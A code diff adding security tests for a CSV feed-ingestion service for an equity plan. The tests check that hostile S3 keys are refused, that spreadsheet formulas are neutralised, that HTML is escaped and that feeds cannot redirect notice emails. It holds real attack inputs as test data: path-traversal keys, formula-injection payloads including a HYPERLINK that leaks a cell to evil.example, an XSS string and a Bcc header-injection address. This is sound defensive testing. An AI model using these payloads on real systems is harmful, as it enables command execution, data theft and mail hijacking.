@@ -5,6 +5,8 @@ gets an email. Every case ends in a clear rejection, no crash and no partial sta
 
 from __future__ import annotations
 
+import csv
+import io
 from datetime import date
 from typing import Any
 
@@ -14,16 +16,24 @@ from handlers_support import (
     FEED_FUNCTION,
     PEOPLE_CSV,
     assert_pools_match_awards,
+    bucket_keys,
     emails,
     errors_csv,
     feed,
+    html,
     put_object,
+    run_daily,
     s3_event,
     table_items,
     to,
 )
 
 MAR15 = date(2002, 3, 15)
+OCT2 = date(2002, 10, 2)
+GRANTS_HEADER = (
+    "award_id,participant_id,plan,award_type,grant_date,shares,exercise_price,"
+    "final_exercise_date,vesting\n"
+)
 TEN_MIB = 10 * 1024 * 1024
 
 
@@ -182,4 +192,245 @@ def test_too_many_rows_and_an_over_long_cell_are_refused_with_their_reasons(
     (rejected,) = errors_csv(stack, "incoming/participants/long.csv")
     assert rejected["reason"] == "name: longer than 100 characters"
     assert stack.runtime.table().get("P#P-9", "PROFILE") is None
+    assert_pools_match_awards(stack)
+
+
+# ------------------------------------------------------------------ keys
+
+HOSTILE_KEYS = [
+    # (the key as S3 sends it in the event: URL-encoded, the reason's start)
+    ("errors/incoming/grants/x.csv.errors.csv", "not a feed"),
+    ("incoming/../incoming/grants/x.csv", "the key contains a '.' or '..' segment"),
+    ("incoming/grants/%2E%2E/%2E%2E/secret.csv", "the key contains a '.' or '..' segment"),
+    ("incoming%2Fgrants%2F..%2Fx.csv", "the key contains a '.' or '..' segment"),
+    ("incoming/grants/..%2F..%2Fx.csv", "the key contains a '.' or '..' segment"),
+    ("incoming/%252E%252E/x.csv", "unknown feed kind '%2E%2E'"),
+    ("incoming/grants/sub/x.csv", "a feed must be uploaded as incoming/<kind>/<name>.csv"),
+    ("incoming/Grants/x.csv", "unknown feed kind 'Grants'"),
+    ("incoming/grants/x.csv%00.txt", "the key contains control characters"),
+    ("incoming/grants/x%0D%0A.csv", "the key contains control characters"),
+    ("incoming/grants/x.csv.exe", "does not end in .csv"),
+    ("incoming/grants/%5C..%5Cx.csv", "the key contains a backslash"),
+    ("incoming//x.csv", "the key has no feed kind"),
+    ("INCOMING/grants/x.csv", "not a feed"),
+    ("/incoming/grants/x.csv", "not a feed"),
+]
+
+
+@pytest.mark.parametrize(("raw_key", "reason"), HOSTILE_KEYS, ids=[k for k, _ in HOSTILE_KEYS])
+def test_a_key_outside_incoming_kind_name_csv_is_refused_unread(
+    people: Any, raw_key: str, reason: str
+) -> None:
+    stack = people
+    put_object(stack, "incoming/grants/x.csv", b"award_id\n")  # a real object to name
+    event = s3_event(stack, "grants", "incoming/grants/x.csv", MAR15)
+    event["Records"][0]["s3"]["object"]["key"] = raw_key  # as S3 would encode it
+    before, sent = table_items(stack), len(emails(stack))
+    spy = spy_s3(stack)
+
+    result = deliver(stack, event)
+
+    assert result["status"] == "rejected"
+    assert reason in result["file_reason"]
+    assert spy.gets == []  # never read
+    assert table_items(stack) == before  # nothing recorded
+    assert len(emails(stack)) == sent
+    assert not any(k.startswith("errors/") for k in bucket_keys(stack))
+
+
+# ------------------------------------------------------------------ CSV injection
+
+INJECTIONS = [
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "＝1+1",
+]
+
+
+def test_formulas_in_a_feed_never_come_back_executable_in_the_errors_csv(people: Any) -> None:
+    stack = people
+    out = io.StringIO()
+    writer = csv.writer(out, lineterminator="\n")
+    writer.writerow([*GRANTS_HEADER.strip().split(","), "=cmd|' /C calc'!A0"])
+    for payload in INJECTIONS:
+        grant = [payload, "E1", "incentive-1998", "nso", "2002-03-15", payload, "20.00"]
+        writer.writerow([*grant, "2012-03-15", payload, "=1+1"])
+    csv_text = out.getvalue()
+    before = not_feed_state(stack)
+
+    result = feed(stack, "grants", csv_text, MAR15, name="formulas")
+
+    assert (result["accepted"], result["rejected"]) == (0, len(INJECTIONS))
+    assert not_feed_state(stack) == before
+    body = (
+        stack.runtime.s3.get_object(
+            Bucket=stack.stack.bucket, Key="errors/incoming/grants/formulas.csv.errors.csv"
+        )["Body"]
+        .read()
+        .decode("utf-8")
+    )
+    cells = [cell for row in csv.reader(io.StringIO(body, newline="")) for cell in row]
+    assert len(cells) == (1 + len(INJECTIONS)) * 12
+    starts = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
+    assert [c for c in cells if c.lstrip(" ").startswith(starts)] == []
+    assert "'=cmd|' /C calc'!A0" in cells  # kept, as text, for HR to correct
+
+
+def test_markup_in_a_name_is_escaped_in_the_html_part_and_stays_one_line(people: Any) -> None:
+    stack = people
+    feed(
+        stack,
+        "participants",
+        "participant_id,name,email,role\n"
+        'E7,<img src=x onerror=alert(1)> "Eve",eve@ctc.example.com,employee\n',
+        MAR15,
+        name="markup",
+    )
+    feed(
+        stack,
+        "terminations",
+        "participant_id,termination_date,reason\nE7,2002-03-15,other\n",
+        MAR15,
+    )
+    (notice,) = [m for m in emails(stack) if to(m) == "eve@ctc.example.com"]
+    assert "<img" not in html(notice)
+    assert "&lt;img src=x onerror=alert(1)&gt;" in html(notice)
+
+
+# ------------------------------------------------------------------ who gets email
+
+EVIL = "evil@attacker.example.com"
+
+
+def recipients(stack: Any) -> set[str]:
+    """Every address SES was asked to deliver to (To, Cc, Bcc and envelope)."""
+    found: set[str] = set()
+    for message in stack.aws.sent_messages():
+        found.update(
+            message.destinations.get("ToAddresses", [])
+            if isinstance(message.destinations, dict)
+            else message.destinations
+        )
+    for message in emails(stack):
+        for header in ("To", "Cc", "Bcc", "Reply-To"):
+            if message[header]:
+                found.add(str(message[header]))
+    return found
+
+
+def test_no_feed_but_participants_can_choose_who_gets_an_email(people: Any) -> None:
+    """Every other feed carries addresses in extra columns and in its own cells: the
+    notices go only to the participants feed's addresses and the administrator's."""
+    stack = people
+    extra = ",email,to,recipient,cc,bcc,personal_email,estate_email\n"
+    evil = f",{EVIL},{EVIL},{EVIL},{EVIL},{EVIL},{EVIL},{EVIL}\n"
+    feed(
+        stack,
+        "grants",
+        GRANTS_HEADER.rstrip("\n")
+        + extra
+        + "G-1,E1,incentive-1998,nso,2002-03-15,100,20.00,2012-03-15,"
+        + evil
+        + f"G-2,{EVIL},incentive-1998,nso,2002-03-15,100,20.00,2012-03-15,"
+        + evil,
+        MAR15,
+    )
+    feed(
+        stack,
+        "elections",
+        "participant_id,notice_date,action" + extra + "D1,2001-12-03,elect" + evil,
+        MAR15,
+    )
+    feed(
+        stack,
+        "fees",
+        "participant_id,fee_type,fee_date,amount" + extra + "D1,meeting,2002-05-15,1500" + evil,
+        MAR15,
+    )
+    feed(
+        stack,
+        "meetings",
+        "meeting_date,participant_id,outcome" + extra + "2002-05-15,D1,reelected" + evil,
+        MAR15,
+    )
+    feed(stack, "prices", "date,last_sale" + extra + "2002-05-14,40.00" + evil, MAR15)
+    feed(
+        stack,
+        "terminations",
+        "participant_id,termination_date,reason"
+        + extra
+        + "E1,2002-10-01,voluntary"
+        + evil
+        + f"{EVIL},2002-10-01,death"
+        + evil
+        + f"E2,2002-10-01,{EVIL}"
+        + evil,
+        OCT2,
+    )
+    # Addresses the participants feed refuses: the person keeps the address they had.
+    refused = feed(
+        stack,
+        "participants",
+        "participant_id,name,email,role,personal_email\n"
+        f'E1,Ann Lee,ann.lee@ctc.example.com,employee,"ann@home.example.com, {EVIL}"\n'
+        f'E2,Bob Roe,"Bob <{EVIL}>",employee,\n'
+        f"E3,Cy Doe,cy@ctc.example.com\\r\\nBcc: {EVIL},employee,\n",
+        OCT2,
+        name="hostile-addresses",
+    )
+    assert (refused["accepted"], refused["rejected"]) == (0, 3)
+    run_daily(stack, date(2002, 5, 15))
+    run_daily(stack, date(2003, 1, 2))
+
+    assert len(emails(stack)) >= 5  # termination, formula grant, deferred stock, summaries
+    assert recipients(stack) <= {
+        "ann@home.example.com",
+        "dana.fox@board.example.com",
+        ADMIN,
+    }
+    profile = stack.runtime.table().get("P#E1", "PROFILE")
+    assert profile["personal_email"] == "ann@home.example.com"
+    assert stack.runtime.table().get("P#E2", "PROFILE")["email"] == "bob.roe@ctc.example.com"
+    assert_pools_match_awards(stack)
+
+
+# ------------------------------------------------------------------ unknown ids
+
+NOBODY = "unknown participant NOBODY"
+UNKNOWN = [
+    ("grants", "G-9,NOBODY,incentive-1998,nso,2002-03-15,100,20.00,2012-03-15,", NOBODY),
+    ("terminations", "NOBODY,2002-03-15,other", NOBODY),
+    ("meetings", "2002-05-15,NOBODY,reelected", NOBODY),
+    ("elections", "NOBODY,2001-12-03,elect", NOBODY),
+    ("fees", "NOBODY,annual,2002-01-02,100", NOBODY),
+    ("exercises", "NO-SUCH-AWARD,2002-03-15,10", "unknown award NO-SUCH-AWARD"),
+]
+HEADERS = {
+    "grants": GRANTS_HEADER.rstrip("\n"),
+    "terminations": "participant_id,termination_date,reason",
+    "meetings": "meeting_date,participant_id,outcome",
+    "elections": "participant_id,notice_date,action",
+    "fees": "participant_id,fee_type,fee_date,amount",
+    "exercises": "award_id,exercise_date,shares",
+}
+
+
+@pytest.mark.parametrize(("kind", "row", "reason"), UNKNOWN, ids=[k for k, _, _ in UNKNOWN])
+def test_unknown_participants_and_awards_are_rejected_and_change_nothing(
+    people: Any, kind: str, row: str, reason: str
+) -> None:
+    stack = people
+    before = not_feed_state(stack)
+
+    result = feed(stack, kind, f"{HEADERS[kind]}\n{row}\n", MAR15, name=f"unknown-{kind}")
+
+    assert (result["accepted"], result["rejected"]) == (0, 1)
+    (row,) = errors_csv(stack, f"incoming/{kind}/unknown-{kind}.csv")
+    # Terminations have a column `reason` of their own: the added one is renamed.
+    added = "rejection_reason" if kind == "terminations" else "reason"
+    assert row[added].startswith(reason)
+    assert not_feed_state(stack) == before
     assert_pools_match_awards(stack)
